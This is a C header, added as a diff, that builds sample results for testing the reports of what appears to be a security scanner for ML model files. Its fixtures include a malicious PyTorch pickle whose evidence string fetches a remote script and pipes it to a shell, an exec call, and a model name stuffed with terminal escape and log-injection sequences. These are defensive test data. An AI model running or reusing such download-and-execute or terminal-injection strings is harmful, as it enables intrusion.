@@ -1,0 +1,219 @@
+/* sample_result.h: results for tests of policy and reports, built by hand. */
+#ifndef SAMPLE_RESULT_H
+#define SAMPLE_RESULT_H
+
+#include "core/formats.h"
+#include "core/result.h"
+
+/* Rules of the samples' own, so that the table may change without them. */
+static const struct rule sample_call = { "pickle/dangerous-call", SEVERITY_CRITICAL, 502,
+                                         "Loading calls a function that can run code" };
+static const struct rule sample_import = { "pickle/unknown-import", SEVERITY_MEDIUM, 502,
+                                           "Loading imports a name that no list knows" };
+static const struct rule sample_polyglot = {
+    "format/polyglot", SEVERITY_HIGH, 434, "One file that two unrelated loaders accept"
+};
+static const struct rule sample_digest = {
+    "integrity/digest-mismatch", SEVERITY_HIGH, 345,
+    "The bytes are not the ones that were expected"
+};
+static const struct rule sample_note = { "trust/unpinned", SEVERITY_LOW, 494,
+                                         "The revision is not pinned" };
+
+static inline struct span text(const char *s)
+{
+    return span_of_text(s);
+}
+
+static inline struct file *sample_file(struct model *m, struct span path, uint64_t size,
+                                       uint64_t formats_set, enum artifact_status status,
+                                       const char *reason)
+{
+    struct arena *arena = arena_new(16 << 20);
+    struct file *f = arena_alloc(arena, sizeof *f);
+    f->arena = arena;
+    f->artifact = artifact_new(arena, path, size);
+    f->artifact->formats = formats_set;
+    if (status != STATUS_COMPLETE)
+        artifact_lower(f->artifact, status, "%s", reason);
+    if (status != STATUS_FAILED)
+        f->sha256 =
+            text("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08");
+    model_add_file(m, f);
+    return f;
+}
+
+static inline void sample_finding(struct artifact *a, const struct rule *rule,
+                                  uint64_t offset, const char *message,
+                                  const char *evidence)
+{
+    finding_add(&a->findings, a->arena, rule, offset, text(message), text(evidence));
+}
+
+static inline void sample_expect(struct file *f, const char *source, const char *value,
+                                 enum expectation_state state)
+{
+    struct expectation *e = arena_alloc(f->arena, sizeof *e);
+    e->source = text(source);
+    e->algorithm = "sha256";
+    e->value = text(value);
+    e->state = state;
+    e->next = f->expected;
+    f->expected = e;
+}
+
+static inline struct model *sample_model(struct result *r, const char *target)
+{
+    return result_add_model(r, text(target), text(target));
+}
+
+/* A PyTorch zip whose data.pkl runs a shell. */
+static inline struct model *sample_malicious(struct result *r)
+{
+    struct model *m = sample_model(r, "models/resnet50-final.pt");
+    struct file *f = sample_file(m, text("resnet50-final.pt"), 102400512,
+                                 FORMAT_BIT(FORMAT_ZIP) | FORMAT_BIT(FORMAT_TORCH_ZIP),
+                                 STATUS_COMPLETE, NULL);
+    f->artifact->executes = true;
+    f->artifact->members_total = 159;
+    struct artifact *pkl =
+        artifact_child(f->artifact, text("archive/data.pkl"), 64, 4096);
+    pkl->formats = FORMAT_BIT(FORMAT_PICKLE);
+    pkl->executes = true;
+    sample_finding(pkl, &sample_import, 17, "no list knows my_pkg.Thing", "my_pkg.Thing");
+    sample_finding(
+        pkl, &sample_call, 1042, "called by REDUCE",
+        "os.system('curl -s http://203.0.113.9/stage2.sh | sh -c \"$(cat)\" # torch')");
+    for (int i = 0; i < 300; i++)
+        sample_finding(pkl, &sample_import, (uint64_t)(2000 + i), "not in any list",
+                       i % 2 ? "my_pkg.layers.Block" : "my_pkg.layers.Norm");
+    struct artifact *inner = artifact_child(pkl, text("bytes@512"), 512, 128);
+    inner->formats = FORMAT_BIT(FORMAT_PICKLE);
+    inner->executes = true;
+    sample_finding(inner, &sample_call, 3, "called by REDUCE",
+                   "builtins.exec('import socket')");
+    struct fact *facts = fact_list(pkl->arena, artifact_facts(pkl), "pickle");
+    struct fact *stream = fact_object(pkl->arena, facts, "");
+    fact_uint(pkl->arena, stream, "protocol", 2);
+    fact_bool(pkl->arena, stream, "stopped", true);
+    struct fact *calls = fact_list(pkl->arena, stream, "calls");
+    fact_text(pkl->arena, calls, "", text("os.system('curl …')"));
+    return m;
+}
+
+/* A Hugging Face cache with one right and one tampered blob. */
+static inline struct model *sample_tampered(struct result *r)
+{
+    struct model *m = result_add_model(r, text("hub"), text("acme/bert-tiny@4f1c0d2"));
+    m->origin = (struct origin){
+        .registry = "huggingface",
+        .title = "Hugging Face Hub",
+        .advice = "Check that the author is verified, the model card is complete and "
+                  "the download count is plausible; pin the revision.",
+        .trust = TRUST_MEDIUM,
+        .basis = BASIS_DECLARED,
+        .name = text("acme/bert-tiny"),
+        .revision = text("4f1c0d2e8a90b7c6d5e4f3a2b1c0d9e8f7a6b5c4"),
+        .evidence = text("models--acme--bert-tiny/snapshots/4f1c0d2e8a90"),
+    };
+    m->trust = TRUST_UNKNOWN;
+    sample_file(m, text("README.md"), 912, 0, STATUS_SKIPPED, "not a model");
+    struct file *good =
+        sample_file(m, text("model.safetensors"), 438012432,
+                    FORMAT_BIT(FORMAT_SAFETENSORS), STATUS_COMPLETE, NULL);
+    sample_expect(good, "huggingface cache blob name",
+                  "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+                  EXPECT_CONSISTENT);
+    struct file *bad =
+        sample_file(m, text("tokenizer.json"), 71230, 0, STATUS_COMPLETE, NULL);
+    sample_expect(bad, "huggingface cache blob name",
+                  "60303ae22b998861bce3b28f33eec1be758a213c86c93c076dbe9f558c11c752",
+                  EXPECT_INCONSISTENT);
+    finding_add(&m->findings, m->arena, &sample_digest, 0,
+                text("tokenizer.json: sha256 is 9f86d081…, the cache names 60303ae2…"),
+                (struct span){ 0 });
+    return m;
+}
+
+/* Cut off, encrypted, unreadable. */
+static inline struct model *sample_incomplete(struct result *r)
+{
+    struct model *m = sample_model(r, "models/broken");
+    sample_file(m, text("a.pt"), 4000, FORMAT_BIT(FORMAT_TORCH_ZIP), STATUS_INCOMPLETE,
+                "the archive ends at byte 4000, its directory is missing");
+    struct file *f = sample_file(m, text("b.zip"), 90000, FORMAT_BIT(FORMAT_ZIP),
+                                 STATUS_COMPLETE, NULL);
+    artifact_lower(artifact_child(f->artifact, text("secret.pkl"), 10, 500),
+                   STATUS_INCOMPLETE, "the member is encrypted");
+    sample_file(m, text("c.bin"), 0, 0, STATUS_FAILED, "Permission denied");
+    return m;
+}
+
+static inline struct model *sample_clean(struct result *r, const char *target,
+                                         enum trust trust)
+{
+    struct model *m = sample_model(r, target);
+    m->trust = trust;
+    if (trust == TRUST_MEDIUM)
+        m->origin = (struct origin){ .registry = "huggingface",
+                                     .title = "Hugging Face Hub",
+                                     .advice = "Check the author.",
+                                     .trust = TRUST_MEDIUM,
+                                     .basis = BASIS_STATED,
+                                     .name = text("acme/gpt-small"),
+                                     .evidence = text("--origin hf:acme/gpt-small") };
+    sample_file(m, text("model.safetensors"), 1234567, FORMAT_BIT(FORMAT_SAFETENSORS),
+                STATUS_COMPLETE, NULL);
+    return m;
+}
+
+/* Names that would act on a terminal, in a log or in a shell. */
+static inline struct model *sample_hostile(struct result *r)
+{
+    static const char name[] = "\x1b[2J\x1b]0;owned\a\xff\xfe::error::\n\0"
+                               "PASS \xe2\x80\xae"
+                               "tp.ledom\xc2\x9b"
+                               "1m \\x41 =cmd()";
+    struct span raw = span_of(name, sizeof name - 1);
+    struct model *m = result_add_model(r, raw, raw);
+    struct file *f =
+        sample_file(m, raw, 10, FORMAT_BIT(FORMAT_PICKLE), STATUS_COMPLETE, NULL);
+    f->artifact->executes = true;
+    struct artifact *inner = artifact_child(f->artifact, text("in!ner\n"), 0, 5);
+    finding_add(&inner->findings, inner->arena, &sample_polyglot, 0, raw, raw);
+    return m;
+}
+
+static inline struct model *sample_pictures(struct result *r)
+{
+    struct model *m = sample_model(r, "pictures");
+    sample_file(m, text("cat.png"), 1000, 0, STATUS_SKIPPED, "nothing suggests a model");
+    return m;
+}
+
+/* All of the above. */
+static inline struct result *sample_rich(void)
+{
+    struct result *r = result_new();
+    sample_hostile(r);
+    sample_tampered(r);
+    sample_incomplete(r);
+    sample_clean(r, "models/gpt-small", TRUST_MEDIUM);
+    sample_clean(r, "models/unknown.safetensors", TRUST_UNKNOWN);
+    struct model *noted = sample_clean(r, "models/noted", TRUST_MEDIUM);
+    finding_add(&noted->findings, noted->arena, &sample_note, 0,
+                text("the reference names no commit"), (struct span){ 0 });
+    sample_malicious(r);
+    sample_pictures(r);
+    struct error e;
+    error_set(&e, ERROR_IO, "hf:acme/x: cannot be fetched: Connection refused");
+    result_add_error(r, text("hf:acme/x"), &e, true);
+    r->run.sandbox = "seccomp+landlock6";
+    r->run.seconds = 1.25;
+    r->run.jobs = 2;
+    r->rules_digest = "0cc175b9c0f1b6a831c399e269772661";
+    result_count(r);
+    return r;
+}
+
+#endif
